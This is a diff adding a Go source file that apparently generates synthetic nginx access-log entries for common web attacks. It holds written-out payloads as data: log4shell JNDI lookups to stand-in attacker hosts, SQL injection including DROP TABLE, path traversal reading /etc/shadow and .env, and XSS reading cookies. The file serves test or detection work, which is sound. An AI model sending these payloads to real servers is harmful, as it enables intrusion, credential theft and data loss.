@@ -0,0 +1,87 @@
+package loggen
+
+import (
+	"math/rand/v2"
+	"net/netip"
+)
+
+// Attack describes requests made by an attacker - attack requests come from addresses in the attack's network
+type Attack struct {
+	Name       string
+	Network    netip.Prefix
+	Methods    []string
+	Paths      []string
+	Statuses   []int
+	UserAgents []string
+}
+
+// DefaultAttacks are common attacks seen in nginx access logs
+//
+// paths are written as clients send them, with spaces percent-encoded, so they appear in the log as requested
+var DefaultAttacks = []Attack{
+	{
+		Name:    "log4shell",
+		Network: netip.MustParsePrefix("193.27.228.0/24"),
+		Methods: []string{"GET", "POST"},
+		Paths: []string{
+			"/api/${jndi:ldap://malicious.example/payload}",
+			"/?x=${jndi:ldap://evil.example/a}",
+			"/hello?param=${jndi:ldap://attacker.example/exploit}",
+		},
+		Statuses:   []int{400, 404, 500},
+		UserAgents: []string{"Go-http-client/1.1", "Python-urllib/3.9", "${jndi:ldap://attacker.example/ua}"},
+	},
+	{
+		Name:    "sql_injection",
+		Network: netip.MustParsePrefix("45.155.205.0/24"),
+		Methods: []string{"GET", "POST"},
+		Paths: []string{
+			"/login?id=1'%20OR%20'1'='1",
+			"/users/1'%20UNION%20SELECT%20*%20FROM%20users--",
+			"/search?q=1';%20DROP%20TABLE%20users--",
+			"/api/user?id=1%20OR%201=1--",
+		},
+		Statuses:   []int{200, 403, 500},
+		UserAgents: []string{"sqlmap/1.6.12#dev (http://sqlmap.org)", "python-requests/2.31.0"},
+	},
+	{
+		Name:    "path_traversal",
+		Network: netip.MustParsePrefix("185.181.60.0/24"),
+		Methods: []string{"GET"},
+		Paths: []string{
+			"/../../../etc/passwd",
+			"/images/../../../../etc/hosts",
+			"/download?file=../../../../etc/shadow",
+			"/.git/config",
+			"/.env",
+			"/wp-config.php.bak",
+		},
+		Statuses:   []int{400, 403, 404},
+		UserAgents: []string{"Nikto/2.1.6", "dirsearch/0.4.2", "DirBuster-1.0-RC1"},
+	},
+	{
+		Name:    "xss",
+		Network: netip.MustParsePrefix("91.92.240.0/24"),
+		Methods: []string{"GET"},
+		Paths: []string{
+			"/search?q=<script>alert(1)</script>",
+			"/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+			"/profile?name=<img%20src=x%20onerror=alert(1)>",
+		},
+		Statuses:   []int{200, 400},
+		UserAgents: []string{"Mozilla/5.0 (compatible; XSStrike/3.1)"},
+	},
+}
+
+// randomAddr returns a random address in the attack's network
+func (a Attack) randomAddr(r *rand.Rand) string {
+	addr := a.Network.Masked().Addr()
+	b := addr.AsSlice()
+	for bit := a.Network.Bits(); bit < len(b)*8; bit++ {
+		if r.IntN(2) == 1 {
+			b[bit/8] |= 1 << (7 - bit%8)
+		}
+	}
+	res, _ := netip.AddrFromSlice(b)
+	return res.String()
+}